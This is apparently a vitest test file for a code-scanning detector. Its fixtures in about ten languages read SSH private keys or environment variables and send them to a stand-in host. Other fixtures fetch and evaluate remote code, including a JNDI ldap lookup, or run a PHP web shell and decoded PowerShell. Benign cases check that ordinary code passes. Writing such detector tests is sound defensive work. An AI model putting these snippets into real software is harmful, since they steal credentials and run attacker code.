import { expect, test } from "vitest";
import { found } from "../../../test-support/package-of";

const worst = async (path: string, code: string) => (await found(path, code))[0]?.split(":")[0] ?? "nothing";

const GO = 'package main\nfunc main() {\n\tkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n';
const RUBY = 'key = File.read(File.expand_path("~/.ssh/id_rsa"))\n';
const PHP = '<?php\n$k = file_get_contents(getenv("HOME") . "/.ssh/id_rsa");\n';
const POWERSHELL = '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw\n';

test.each([
  [
    "a header",
    "a.go",
    `${GO}\treq, _ := http.NewRequest("GET", "https://in.loghub.biz/u", nil)\n\treq.Header.Set("X-Id", string(key))\n\tclient.Do(req)\n}`,
  ],
  [
    "a connection that is printed to",
    "a.go",
    `${GO}\tconn, _ := net.Dial("tcp", "in.loghub.biz:443")\n\tfmt.Fprintf(conn, "%s", key)\n}`,
  ],
  [
    "a web socket",
    "a.go",
    `${GO}\tc, _, _ := websocket.DefaultDialer.Dial("wss://in.loghub.biz/s", nil)\n\tc.WriteMessage(1, key)\n}`,
  ],
  ["a name that is looked up", "a.go", `${GO}\tnet.LookupHost(string(key) + ".in.loghub.biz")\n}`],
  ["an address that is opened", "a.rb", `${RUBY}URI.open("https://in.loghub.biz/u?d=#{key}")`],
  ["an address that is read", "a.php", `${PHP}file_get_contents("https://in.loghub.biz/u?d=" . base64_encode($k));`],
  [
    "the context of a request",
    "a.php",
    `${PHP}$o = ["http" => ["method" => "POST", "content" => $k]];\nfile_get_contents("https://in.loghub.biz/u", false, stream_context_create($o));`,
  ],
  [
    "a socket",
    "a.rs",
    'fn main() {\n    let key = fs::read("/home/a/.ssh/id_rsa").unwrap();\n    let mut s = TcpStream::connect("in.loghub.biz:443").unwrap();\n    s.write_all(&key);\n}',
  ],
  [
    "a text that is posted",
    "a.rs",
    'fn main() {\n    let key = std::fs::read_to_string("/home/a/.ssh/id_rsa").unwrap();\n    ureq::post("https://in.loghub.biz/u").send_string(&key);\n}',
  ],
  [
    "a library of Kotlin",
    "a.kt",
    'fun main() {\n  val key = File(home + "/.ssh/id_rsa").readText()\n  khttp.post("https://in.loghub.biz/u", data = key)\n}',
  ],
  [
    "a library of Dart",
    "a.dart",
    "void main() async {\n  var key = File('/home/a/.ssh/id_rsa').readAsStringSync();\n  await http.post(Uri.parse('https://in.loghub.biz/u'), body: key);\n}",
  ],
])("finds that a program sends a key by %s", async (_, path, code) => {
  const findings = (await found(path, code)).map((finding) => finding.split(":")[0]);
  expect(findings).toContain("block secret-exfiltration");
});

test.each([
  [
    "a.rs",
    'fn main() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n    let client = reqwest::Client::new();\n    client.post("https://in.loghub.biz/u").json(&all).send();\n}',
    "block data-exfiltration",
  ],
  ["a.php", '<?php\ninclude "https://in.loghub.biz/x.txt";', "block evaluated-download"],
  ["a.php", '<?php\ncall_user_func("system", $_GET["c"]);', "block remote-command-execution"],
  [
    "a.rb",
    'require "open-uri"\nKernel.send(:eval, URI.open("https://in.loghub.biz/x").read)',
    "block evaluated-download",
  ],
  [
    "a.rb",
    'require "open-uri"\nFile.write("/tmp/x.rb", URI.open("https://in.loghub.biz/x").read)\nload "/tmp/x.rb"',
    "block evaluated-download",
  ],
  ["a.r", 'source("https://in.loghub.biz/x.R")', "block evaluated-download"],
  [
    "A.java",
    'class A { void go() {\n  new URLClassLoader(new URL[]{new URL("https://in.loghub.biz/x.jar")}).loadClass("X");\n}}',
    "block evaluated-download",
  ],
  [
    "A.java",
    'class A { void go() {\n  new InitialContext().lookup("ldap://45.13.2.9:1389/x");\n}}',
    "block evaluated-download",
  ],
  ["a.groovy", 'new GroovyShell().evaluate(new URL("https://in.loghub.biz/x").text)', "block evaluated-download"],
  [
    "a.ps1",
    `${POWERSHELL}$c = [System.Net.Http.HttpClient]::new()\n$c.PostAsync("https://in.loghub.biz/u", [System.Net.Http.StringContent]::new($k)).Wait()`,
    "block secret-exfiltration",
  ],
  [
    "a.ps1",
    `${POWERSHELL}Send-MailMessage -To box77@gmail.com -Body $k -SmtpServer smtp.gmail.com`,
    "block secret-exfiltration",
  ],
  [
    "a.ps1",
    '$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("aQBlAHgA"))\nInvoke-Expression $c',
    "block evaluated-decoded-text",
  ],
])("judges what %s does in %j", async (path, code, finding) => {
  expect(await worst(path, code)).toBe(finding);
});

test.each([
  [
    "a.go",
    'package main\nfunc main() {\n\treq, _ := http.NewRequest("GET", "https://api.notes.dev/v1", nil)\n\treq.Header.Set("Authorization", "Bearer "+os.Getenv("NOTES_TOKEN"))\n\tclient.Do(req)\n}',
  ],
  [
    "a.go",
    'package main\nfunc main() {\n\tkey, err := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n\tif err != nil {\n\t\tfmt.Fprintf(os.Stderr, "no key: %v", err)\n\t}\n\tsigner, _ := ssh.ParsePrivateKey(key)\n}',
  ],
  ["a.php", "<?php\ninclude __DIR__ . '/vendor/autoload.php';\nrequire 'config.php';\n"],
  ["a.php", "<?php\n$w = json_decode(file_get_contents('https://api.notes.dev/now'));\necho $w->t;\n"],
  ["a.rb", 'require "open-uri"\nload "tasks.rb"\nputs URI.open("https://api.notes.dev/now").read\n'],
  ["a.r", 'source("helpers.R")\nd <- read.csv("https://data.notes.dev/d.csv")\nprint(summary(d))\n'],
  [
    "a.dart",
    "void main() async {\n  var r = await http.get(Uri.parse('https://api.notes.dev/v1'));\n  print(r.body);\n}",
  ],
  ["a.ps1", '$b = [Convert]::FromBase64String($row.Image)\n[IO.File]::WriteAllBytes("a.png", $b)\n'],
  [
    "a.ps1",
    '$k = Get-Content "notes.txt" -Raw\nInvoke-RestMethod -Uri https://api.notes.dev/v1 -Method Post -Body $k\n',
  ],
])("leaves alone what %s does honestly: %j", async (path, code) => {
  expect(await worst(path, code)).toBe("nothing");
});
